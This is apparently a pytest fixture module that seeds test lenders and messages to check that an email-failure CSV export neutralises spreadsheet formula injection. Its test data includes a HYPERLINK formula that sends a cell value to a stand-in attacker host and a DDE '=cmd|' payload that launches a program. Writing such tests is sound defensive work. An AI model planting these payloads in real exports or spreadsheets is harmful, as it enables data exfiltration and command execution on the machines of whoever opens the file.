"""Two lenders with every kind of failure, for the export's tests (tests/db/test_export.py) and the
export's page and command line (tests/pages/test_export_cli_page.py): `export_world` (a fixture,
registered for every test by tests/conftest.py) and
`expected_rows` (what the file must hold, read from the database the slow, obvious way)."""

from __future__ import annotations

from datetime import UTC, timedelta

import pytest
from sqlalchemy import select

from commlog.mime_subject import decoded_subject
from commlog.models import Account, Lender, Message
from commlog.principal import Principal, Role
from tests.support import factories as f

SUBJECTS = {
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "formula_plus": "+1 555 0100 call us",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(A1:A9)",
    "formula_tab": "\tTabbed subject",
    "formula_cr": "\rCarriage return subject",
    "fullwidth": "\uff1d1+1",
    "quotes_newlines": 'Say "hello", then\nread line two\r\nand three',
    "non_latin": "Подтвердите аккаунт — 账户确认 ✓ مرحبا",
}


@pytest.fixture
def export_world(engine):
    """Lender A with every kind of outcome and nasty text; lender B with failures of its own."""
    t0 = f.T0
    with engine.begin() as c:
        a = f.lender(c, "acme-lending", "Acme Lending")
        b = f.lender(c, "bravo", "=Bravo+Credit")
        zoe = f.account(c, a, 'Zoë "Z" O\'Neil, Jr.', "zoe@gmail.com")
        ivan = f.account(c, a, "Иван Петров 王小明", "ivan@yandex.ru")
        evil = f.account(c, a, "=cmd|' /C calc'!A0", "evil@example.com")
        zed = f.account(c, b, "Zed Bravo", "zed@bravo.example")
        ids: dict[str, int] = {}
        # Status failed (never sent): each carries a formula payload somewhere.
        ids["failed_eq"] = f.message(c, a, "staff@acme.example", audience="staff", subject=SUBJECTS["formula_eq"],
                                     send_status="failed", send_error="-ERR relay denied", sent_at=t0 - timedelta(hours=1))
        ids["failed_tab"] = f.message(c, a, "x@acme.example", subject=SUBJECTS["formula_tab"], send_status="failed",
                                      send_error="@timeout", sent_at=t0 - timedelta(hours=2))
        ids["failed_cr"] = f.message(c, a, "y@acme.example", subject=SUBJECTS["formula_cr"], send_status="failed",
                                     sent_at=t0 - timedelta(hours=3))
        ids["failed_fw"] = f.message(c, a, "w@acme.example", subject=SUBJECTS["fullwidth"], send_status="failed",
                                     sent_at=t0 - timedelta(hours=4))
        ids["failed_minus"] = f.message(c, a, "v@acme.example", subject=SUBJECTS["formula_minus"], send_status="failed",
                                        log_account_id=evil, sent_at=t0 - timedelta(hours=5))
        # NOT_DELIVERED after sending.
        ids["bounce"] = f.message(c, a, "zoe@gmail.com", log_account_id=zoe, subject=SUBJECTS["quotes_newlines"],
                                  email_type="password_reset", sent_at=t0)
        ids["blocked"] = f.message(c, a, "ivan@yandex.ru", log_account_id=ivan, subject=SUBJECTS["non_latin"], sent_at=t0)
        ids["dropped"] = f.message(c, a, "gone@hotmail.co.uk", subject=SUBJECTS["formula_plus"], sent_at=t0)
        ids["at_bounce"] = f.message(c, a, "at@icloud.com", subject=SUBJECTS["formula_at"], sent_at=t0)
        ids["expired"] = f.message(c, a, "slow@yahoo.com", subject="Expired deferral", sent_at=t0 - timedelta(days=4))
        # Not failures (unless include_deferred, for the first).
        ids["deferred"] = f.message(c, a, "later@gmail.com", subject="Still retrying", sent_at=t0)
        ids["delivered"] = f.message(c, a, "fine@gmail.com", subject="Delivered fine", sent_at=t0)
        ids["unchecked"] = f.message(c, a, "unknown@gmail.com", subject="Not checked", sent_at=t0)
        # Lender B.
        ids["b_bounce"] = f.message(c, b, "zed@bravo.example", log_account_id=zed, subject="Bravo secret", sent_at=t0)
        ids["b_failed"] = f.message(c, b, "ops@bravo.example", subject="Bravo failed", send_status="failed", sent_at=t0)

        f.events(c, ids["bounce"], a, ("PROCESSED", 0, None), ("BOUNCE", 1, "550 5.1.1 <zoe@gmail.com>: user unknown"))
        f.events(c, ids["blocked"], a, ("BLOCKED", 2, "554 5.7.1 Message rejected: =spam policy"))
        f.events(c, ids["dropped"], a, ("DROPPED", 1, "+suppressed after earlier bounce"))
        f.events(c, ids["at_bounce"], a, ("BOUNCE", 1, "550 5.2.1 mailbox disabled"))
        f.events(c, ids["expired"], a, ("DEFERRED", -4 * 24 * 60 + 5, "421 4.7.0 try again later"), now=t0)
        f.events(c, ids["deferred"], a, ("DEFERRED", 5, "451 4.7.28 rate limited"))
        f.events(c, ids["delivered"], a, ("DELIVERED", 1, "250 2.0.0 OK"))
        f.events(c, ids["b_bounce"], b, ("BOUNCE", 1, "550 5.1.1 bravo user unknown"))
        users = {
            "admin_a": f.user(c, "admin@acme.example", "lender_admin", "acme-lending", password=None),
            "admin_b": f.user(c, "admin@bravo.example", "lender_admin", "bravo", password=None),
            "ops": f.user(c, "ops@commlog.example", "ops", password=None),
        }
    admin_a = Principal(users["admin_a"], "admin@acme.example", Role.LENDER_ADMIN, a)
    return dict(a=a, b=b, zoe=zoe, ivan=ivan, evil=evil, zed=zed, ids=ids, users=users, admin_a=admin_a)


def _neutral(v):
    if v is None:
        return ""
    v = str(v)
    return "'" + v if v and v[0] in FORMULA else v


def iso(v):
    """A time as the export writes it."""
    return "" if v is None else v.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def expected_rows(engine, *, lenders, include_deferred=False, account=None, lender_log_only=False):
    """What the file must hold, computed in Python from the raw tables (newest first)."""
    with engine.connect() as c:
        lender_names = dict(c.execute(select(Lender.id, Lender.name)).all())
        names = dict(c.execute(select(Account.id, Account.name)).all())
        msgs = c.execute(select(*Message.__table__.columns).where(Message.lender_id.in_(lenders))).all()
    out = []
    for m in sorted(msgs, key=lambda m: (m.sent_at, m.id), reverse=True):
        deferred = m.delivery_status == "PENDING" and m.event_mask & (1 << 1)
        if not (m.send_status == "failed" or m.delivery_status == "NOT_DELIVERED" or (include_deferred and deferred)):
            continue
        if account is not None and m.log_account_id != account:
            continue
        if lender_log_only and m.log_account_id is not None:
            continue
        out.append(
            [
                _neutral(lender_names[m.lender_id]),
                "Borrower" if m.log_account_id else "Lender",
                _neutral(names[m.log_account_id]) if m.log_account_id else "",
                str(m.log_account_id) if m.log_account_id else "",
                iso(m.sent_at),
                m.recipient_email,
                m.recipient_domain,
                m.provider_family,
                _neutral(decoded_subject(m.subject)),  # decoded, as people read it
                m.email_type,
                m.send_status,
                _neutral(m.send_error),
                m.delivery_status or "NOT_CHECKED",
                m.last_event_type or "",
                _neutral(m.status_reason),
                iso(m.last_event_at),
                iso(m.checked_at),
                m.provider,
                m.provider_message_id or "",
                str(m.id),
            ]
        )
    return out


FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
